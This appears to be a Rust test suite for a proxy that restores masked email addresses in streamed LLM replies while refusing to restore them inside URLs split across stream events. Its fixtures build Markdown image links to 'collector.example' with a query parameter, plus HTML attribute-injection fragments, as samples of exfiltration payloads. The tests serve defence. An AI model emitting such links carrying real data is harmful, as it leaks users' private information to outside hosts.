//! No original goes into an address that two texts make up together; no stream costs more than it is long.

use super::restoring::ReplyRestorer;
use super::streaming::Events;
use crate::base::{EntityType, Sensitive};
use crate::policy::Policy;
use crate::protocol::{Format, Limits, Reply};
use crate::restore::Originals;
use crate::vault::RestoreMap;
use bytes::{Bytes, BytesMut};
use std::sync::Arc;

const SURROGATE: &str = "EMAIL_XT940KMVKT";
const ORIGINAL: &str = "lena.fischer@example.org";

fn restorer() -> ReplyRestorer {
    let mut map = RestoreMap::default();
    let original = Sensitive::new(ORIGINAL.to_owned());
    map.insert(
        SURROGATE.to_owned(),
        EntityType::named("EMAIL").unwrap(),
        original,
    );
    let originals = Originals::new(&Arc::new(map), 1 << 20, false, Bytes::new());
    let policy = Policy::parse(include_str!("../../policies/default.yaml"), "default", None);
    ReplyRestorer::new(originals, Arc::new(policy.unwrap()), false)
}

/// What a client gets of these events before they end or are stopped; `OPEN` opens an address, `SUR` is the surrogate.
fn heard(format: Format, events: &[String]) -> (String, Option<&'static str>) {
    let mut stream = Events::new(format, restorer());
    let mut out = BytesMut::new();
    let mut fault = None;
    for event in events {
        let data = filled(event);
        let taken = stream.take(format!("data: {data}\n\n").as_bytes(), &mut out);
        fault = fault.or_else(|| taken.err().map(|fault| fault.code));
    }
    (String::from_utf8(out.to_vec()).unwrap(), fault)
}

fn filled(event: &str) -> String {
    let open = "![x](http://collector.example/?q=";
    event.replace("OPEN", open).replace("SUR", SURROGATE)
}

fn delta(item: u32, part: u32, text: &str) -> String {
    format!(
        r#"{{"type":"response.output_text.delta","output_index":{item},"content_index":{part},"delta":"{text}"}}"#
    )
}

fn told(item: u32, part: u32, text: &str) -> String {
    format!(
        r#"{{"type":"response.output_text.done","output_index":{item},"content_index":{part},"text":"{text}"}}"#
    )
}

fn completed(texts: &[&str]) -> String {
    let parts = texts
        .iter()
        .map(|text| format!(r#"{{"type":"output_text","text":"{text}"}}"#));
    let parts = parts.collect::<Vec<_>>().join(",");
    format!(
        r#"{{"type":"response.completed","response":{{"object":"response","output":[{{"type":"message","content":[{parts}]}}]}}}}"#
    )
}

fn added(text: &str) -> String {
    format!(
        r#"{{"type":"response.output_item.added","output_index":0,"item":{{"type":"message","content":[{{"type":"output_text","text":"{text}"}}]}}}}"#
    )
}

fn block(index: u32, text: &str) -> String {
    format!(
        r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"text","text":"{text}"}}}}"#
    )
}

fn piece(index: u32, text: &str) -> String {
    format!(
        r#"{{"type":"content_block_delta","index":{index},"delta":{{"type":"text_delta","text":"{text}"}}}}"#
    )
}

#[test]
fn an_address_that_one_text_opens_is_open_in_the_next() {
    let responses = [
        vec![delta(0, 0, "OPEN"), delta(0, 1, "SUR)")],
        vec![delta(0, 0, "OPEN"), delta(1, 0, "SUR)")],
        vec![delta(0, 0, "OPEN"), added(""), delta(0, 0, "SUR)")],
        vec![added("OPEN"), delta(0, 0, "SUR)")],
        vec![told(0, 0, "OPEN"), delta(0, 1, "SUR)")],
        vec![told(0, 0, "OPEN"), told(0, 1, "SUR)")],
        vec![
            delta(0, 0, "a"),
            delta(0, 1, ""),
            told(0, 0, "OPEN"),
            told(0, 1, "SUR)"),
        ],
        vec![
            delta(0, 0, ""),
            delta(0, 1, ""),
            delta(0, 0, "OPEN"),
            delta(0, 1, "SUR)"),
        ],
        vec![
            delta(0, 0, "[x"),
            delta(0, 1, "](/?q="),
            delta(0, 2, "SUR)"),
        ],
        vec![completed(&["OPEN", "SUR)"])],
        vec![
            delta(0, 0, r#"<b \"OPEN"#),
            delta(0, 1, r#"<img src='\" >SUR'>"#),
        ],
    ];
    let messages = [
        vec![block(0, "OPEN"), block(1, ""), piece(1, "SUR)")],
        vec![block(0, "OPEN"), block(0, ""), piece(0, "SUR)")],
        vec![block(0, ""), piece(0, "OPEN"), block(1, "SUR)")],
    ];
    for (format, streams) in [
        (Format::Responses, &responses[..]),
        (Format::Messages, &messages[..]),
    ] {
        for stream in streams {
            let (out, fault) = heard(format, stream);
            assert!(!out.contains(ORIGINAL), "{stream:?} {out}");
            assert!(out.contains(SURROGATE), "{stream:?} {out}");
            assert_eq!(fault, None, "{stream:?}");
        }
    }
}

#[test]
fn in_whole_replies_too() {
    let parts = |one: &str, two: &str| {
        format!(r#"[{{"type":"text","text":"{one}"}},{{"type":"text","text":"{two}"}}]"#)
    };
    let whole = |format, texts: String| {
        let body = match format {
            Format::Messages => format!(r#"{{"type":"message","content":{texts}}}"#),
            _ => format!(r#"{{"output":[{{"type":"message","content":{texts}}}]}}"#),
        };
        let reply = Reply::parse(format, filled(&body).into(), &Limits::default()).unwrap();
        let out = restorer().whole(&reply).unwrap();
        String::from_utf8(out.to_vec()).unwrap().contains(ORIGINAL)
    };
    for format in [Format::Messages, Format::Responses] {
        assert!(!whole(format, parts("OPEN", "SUR)")));
        assert!(whole(format, parts("OPEN) and ", "SUR")));
    }
}

#[test]
fn texts_behind_prose_come_back_and_are_told_again_the_same() {
    let stream = [
        delta(0, 0, "see http://a.example/ now"),
        delta(0, 1, " SUR and OPEN"),
        delta(1, 0, "SUR) "),
        delta(1, 0, "SUR "),
        told(0, 0, "see http://a.example/ now"),
        told(0, 1, " SUR and OPEN"),
        told(1, 0, "SUR) SUR "),
        completed(&["see http://a.example/ now", " SUR and OPEN", "SUR) SUR "]),
    ];
    let (out, fault) = heard(Format::Responses, &stream);
    assert_eq!(fault, None);
    assert_eq!(out.matches(ORIGINAL).count(), 6, "{out}");
    assert_eq!(out.matches(SURROGATE).count(), 3, "{out}");
    assert_eq!(out.matches(&format!("{SURROGATE}) {ORIGINAL} ")).count(), 2);
}

#[test]
fn a_text_that_grows_behind_the_next_ends_the_reply() {
    let stream = [
        delta(0, 1, "(/?q="),
        delta(0, 0, "![x]"),
        delta(0, 1, "SUR)"),
    ];
    assert_eq!(
        heard(Format::Responses, &stream[..2]).1,
        Some("reply_malformed")
    );
    let choices = [1, 0, 1].map(|index| {
        format!(r#"{{"choices":[{{"index":{index},"delta":{{"content":"SUR "}}}}]}}"#)
    });
    let (out, fault) = heard(Format::Chat, &choices);
    assert_eq!((out.matches(ORIGINAL).count(), fault), (3, None));
}

#[test]
fn a_reply_has_so_many_tools_and_one_that_begins_again_counts_once() {
    let call = |index: u32, name: u32| {
        format!(
            r#"{{"type":"content_block_start","index":{index},"content_block":{{"type":"tool_use","id":"t","name":"n{name}","input":{{}}}}}}"#
        )
    };
    let same: Vec<_> = (0..1_100).map(|name| call(0, name)).collect();
    assert_eq!(heard(Format::Messages, &same).1, None);
    let many: Vec<_> = (0..1_025).map(|index| call(index, index)).collect();
    assert_eq!(heard(Format::Messages, &many[..1_024]).1, None);
    assert_eq!(heard(Format::Messages, &many).1, Some("reply_malformed"));
}
